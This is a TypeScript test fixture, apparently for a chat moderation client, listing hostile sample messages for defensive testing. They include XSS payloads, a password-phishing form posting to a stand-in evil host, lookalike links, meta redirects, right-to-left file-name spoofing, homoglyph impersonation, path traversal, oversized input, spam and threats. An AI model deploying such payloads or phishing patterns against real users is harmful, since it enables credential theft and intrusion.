/**
 * What moderators open in earnest: content that tries to run, to load, to deceive or to exhaust. The
 * addresses lead nowhere.
 */
import type { JsonObject } from '../../../shared/api/common.ts';
import { formatted, text } from './content.ts';

const nested = (depth: number): unknown =>
  Array.from({ length: depth }).reduce((inner) => ({ deeper: inner }), 'the bottom');

export const hostileMessages: JsonObject[] = [
  formatted('Free prize!', '<script>document.title = "owned"</script><b>Free prize!</b>'),
  formatted(
    'Look at this',
    '<img src="https://tracker.invalid/pixel.gif" onerror="document.title=\'owned\'">Look at this',
  ),
  formatted('Click me', '<a href="javascript:document.title=\'owned\'">Click me</a>'),
  formatted(
    'Move over me',
    '<div onmouseover="document.title=\'owned\'" onclick="alert(1)">Move over me</div>',
  ),
  formatted(
    'A picture',
    '<svg onload="document.title=\'owned\'"><foreignObject><iframe src="https://evil.invalid"></iframe></foreignObject></svg>A picture',
  ),
  formatted(
    'Sign in again',
    '<form action="https://evil.invalid"><input name="password" type="password"><button>Sign in again</button></form>',
  ),
  formatted(
    'Everything is covered',
    '<div style="position:fixed;inset:0;background:url(https://tracker.invalid/bg.png);z-index:9999">Everything is covered</div>',
  ),
  formatted(
    'https://example.org/account',
    '<a href="https://example.org.evil.invalid/account">https://example.org/account</a>',
  ),
  formatted(
    'Meta',
    '<meta http-equiv="refresh" content="0;url=https://evil.invalid"><base href="https://evil.invalid/">Meta',
  ),
  formatted('Unclosed', '<table><td><style>*{display:none}</style><b><i><u><span><p>Unclosed'),
  // A right-to-left override hides what kind of file this is.
  text('Please open invoice\u202Efdp.exe, it is urgent'),
  text('The admins have moved: write to @аdmin:lосаlhost from now on'),
  text('\u2067\u2066مرحبا\u2069 https://example.org/\u202Eevil\u202C \u2069'),
  text(`Z̷̢̛a̴͓͝l̶̫͘g̵̬̈ơ̸͎ ${'\u0336\u0315'.repeat(200)}`),
  text('spam '.repeat(12_000).trim()),
  { msgtype: 'm.text', body: 'Deep', 'org.example.deep': nested(100) },
  {
    msgtype: 'm.image',
    body: 'photo.png',
    url: 'https://tracker.invalid/photo.png',
    info: { mimetype: 'image/svg+xml' },
  },
  {
    msgtype: 'm.file',
    body: '../../etc/passwd',
    filename: '../../etc/passwd',
    url: 'mxc://localhost/../../secrets',
  },
  { msgtype: 'm.custom.unknown', body: 'A message of an unknown type' },
  text('You are all idiots and I hope this server burns down.'),
  text('Buy followers now!!! https://spam.invalid/?id=4711 100% legit'),
  text('I know where you live, Grace.'),
];
